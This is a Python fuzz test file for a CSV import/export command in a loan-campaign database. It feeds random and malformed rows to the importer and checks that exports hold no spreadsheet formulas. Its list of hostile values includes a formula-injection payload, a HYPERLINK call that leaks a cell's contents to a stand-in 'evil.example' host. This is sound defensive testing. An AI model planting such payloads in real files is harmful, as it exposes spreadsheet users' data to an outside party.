"""A standing fuzz test of the import: random and hostile rows for every feed, both back ends.

Property-based (hypothesis): whatever the rows, `pdca import` exits 0, 1 or 2 without a
traceback, the rows it reports loaded plus quarantined are the rows in the file, and an
export of what was loaded then runs clean: exit 0, no cell a spreadsheet reads as a
formula, and it imports back with nothing quarantined. The example count is kept small
(a few seconds per back end); a failing example is printed by hypothesis, and belongs in
`test_import_bounds.py` as a case of its own once fixed.
"""

from __future__ import annotations

import contextlib
import csv
import io
import re
import tempfile
from datetime import datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import insert

from pdca.db import make_engine
from pdca.models import Application, Customer, Loan
from tasks.common.bounds import FORMULA_START
from tasks.common.campaigns import apply_spec, load_spec
from tasks.common.feeds import FEEDS, Column
from tests.scenario import database, new_database

EXAMPLE = Path(__file__).resolve().parents[3] / "examples" / "sme-spring-2026.yaml"
CAMPAIGN = "sme-spring-2026"
SUMMARY = re.compile(r": (\d+) rows in .*: (\d+) loaded, (\d+) quarantined$")

HOSTILE = [
    "",
    "now",
    "today",
    "inf",
    "-inf",
    "1e400",
    "Infinity",
    "nan",
    "NaN",
    "99999999999999999999",
    "-0",
    "0001-01-01T00:00:00",
    "9999-12-31T23:59:59-12:00",
    "2026-02-30",
    "2026-03-29T02:30:00",
    "a\x00b",
    "line\nbreak",
    "cr\rreturn",
    "\t",
    '=HYPERLINK("http://evil.example/?leak="&A2,"Call now")',
    "@SUM(1+1)",
    "+1+2",
    "-2+3",
    "'=1",
    '"',
    ",",
    "x" * 5000,
    "\ufeffbom",
    "\U0001f600",
    "\u202eevil",
    "NULL",
    "None",
]
"""Values that have broken an importer somewhere: words, infinities, far-off years, control
characters, formulas, quotes, oversized and odd Unicode."""

KNOWN = ["c1", "c2", "a1", "a2", "l1", CAMPAIGN]
"""Keys the database already holds, so that some fuzzed references resolve."""


def valid_value(column: Column) -> st.SearchStrategy[str]:
    """A value that parses as the column's kind (the suite may still refuse it)."""
    if column.kind == "int":
        return st.integers(-5, 1000).map(str)
    if column.kind == "float":
        return st.floats(-10, 1e6, allow_nan=False).map(repr)
    if column.kind == "bool":
        return st.sampled_from(["true", "false", "1", "0"])
    if column.kind == "datetime":
        return st.sampled_from(
            ["2026-03-02T12:00:00", "2026-03-03T09:30:00+08:00", "2026-03-04 04:30:00Z"]
        )
    if column.kind == "date":
        return st.sampled_from(["2026-04-05", "2026-05-05"])
    if column.kind == "phone":
        return st.sampled_from(["+86 138 1234 5678", "0086-138-1234-5678"])
    if column.kind == "email":
        return st.sampled_from(["li.wei@example.cn", "a@b.cn"])
    return st.sampled_from(
        [*KNOWN, "sme", "retail", "sms", "phone", "A", "B", "holdout", "approved", "rejected"]
    ) | st.text(alphabet="abcxyz0123456789-", min_size=1, max_size=8)


def field(column: Column) -> st.SearchStrategy[str]:
    return valid_value(column) | st.sampled_from(HOSTILE) | st.text(max_size=12)


@st.composite
def feed_rows(draw, feed_name: str) -> list[list[str]]:
    """1 to 8 rows; now and then one with a field too many or too few."""
    columns = FEEDS[feed_name].columns
    rows = []
    for _ in range(draw(st.integers(1, 8))):
        row = [draw(field(column)) for column in columns]
        shape = draw(st.sampled_from([0] * 8 + [-1, 1]))
        rows.append(row[:-1] if shape < 0 else [*row, "extra"] if shape > 0 else row)
    return rows


def write_csv(path: Path, feed_name: str, rows: list[list[str]]) -> None:
    """The header and rows as a CSV writer quotes them (so a record is a row, whatever
    line breaks its fields hold)."""
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(FEEDS[feed_name].column_names)
        writer.writerows(rows)


def pdca(*argv: str) -> tuple[int, str, str]:
    """`pdca ARGV` in this process: exit code, stdout, stderr."""
    import sys

    from pdca.cli import main

    out, err, saved = io.StringIO(), io.StringIO(), sys.argv
    sys.argv = ["pdca", *argv]
    try:
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            main()
        code = 0
    except SystemExit as exited:
        code = exited.code if isinstance(exited.code, int) else 1
    finally:
        sys.argv = saved
    return code, out.getvalue(), err.getvalue()


def seed(url: str) -> None:
    """The example campaign, customers c1 and c2, applications a1 and a2, loan l1."""
    engine = make_engine(url)
    with engine.begin() as conn:
        apply_spec(conn, load_spec(EXAMPLE))
        for customer_id in ("c1", "c2"):
            conn.execute(
                insert(Customer).values(
                    customer_id=customer_id,
                    segment="sme",
                    credit_score=700,
                    marketing_consent=True,
                    do_not_contact=False,
                )
            )
        for application_id in ("a1", "a2"):
            conn.execute(
                insert(Application).values(
                    application_id=application_id,
                    customer_id="c1",
                    campaign_id=CAMPAIGN,
                    channel="sms",
                    applied_at=datetime(2026, 3, 3),
                    product_code="sme-revolving",
                    amount_requested=50000.0,
                )
            )
        conn.execute(
            insert(Loan).values(
                loan_id="l1",
                application_id="a1",
                disbursed_at=datetime(2026, 3, 5),
                amount=40000.0,
                apr=12.5,
                term_months=12,
            )
        )
    engine.dispose()


def assert_import(code: int, out: str, err: str, rows: int) -> None:
    assert code in (0, 1, 2), f"exit {code}\n{err}"
    assert "Traceback" not in err, err
    if code == 2:
        assert len(err.strip().splitlines()) == 1, err
        return
    match = SUMMARY.search(out.strip().splitlines()[0])
    assert match, out
    seen, loaded, quarantined = (int(group) for group in match.groups())
    assert seen == rows and loaded + quarantined == rows, out


def assert_clean_export(path: Path) -> None:
    with path.open(newline="", encoding="utf-8") as handle:
        for record in csv.reader(handle):
            for cell in record:
                if cell.startswith(FORMULA_START):
                    float(cell)  # only a number may start like a formula


BACKENDS = ["sqlite", pytest.param("postgres", marks=[pytest.mark.postgres, pytest.mark.slow])]


@pytest.fixture(params=BACKENDS)
def fuzz_url(request: pytest.FixtureRequest, tmp_path: Path, monkeypatch) -> str:
    """A seeded database; the CLI's debug log (if a case fails) goes to the test's folder."""
    monkeypatch.setenv("PDCA_OUTPUT_DIR", str(tmp_path / "out"))
    url = new_database(request, tmp_path, request.param)
    seed(url)
    return url


@st.composite
def feed_and_rows(draw) -> tuple[str, list[list[str]]]:
    feed_name = draw(st.sampled_from(list(FEEDS)))
    return feed_name, draw(feed_rows(feed_name))


class TestFuzzImport:
    @settings(
        max_examples=30,
        deadline=None,
        database=None,
        suppress_health_check=[
            HealthCheck.function_scoped_fixture,
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
        ],
    )
    @given(case=feed_and_rows())
    def test_any_rows_import_and_export_clean(self, fuzz_url: str, case) -> None:
        feed_name, rows = case
        with tempfile.TemporaryDirectory() as folder, database(fuzz_url):
            path = Path(folder) / f"{feed_name}.csv"
            write_csv(path, feed_name, rows)
            assert_import(*pdca("import", feed_name, str(path)), rows=len(rows))
            exported = Path(folder) / "export.csv"
            code, out, err = pdca("export", feed_name, str(exported))
            assert code == 0 and "Traceback" not in err, err
            assert_clean_export(exported)
            code, out, err = pdca("import", feed_name, str(exported))
            assert code == 0, f"the export of loaded rows must import back clean: {out}{err}"
            assert out.strip().endswith(" 0 quarantined"), out
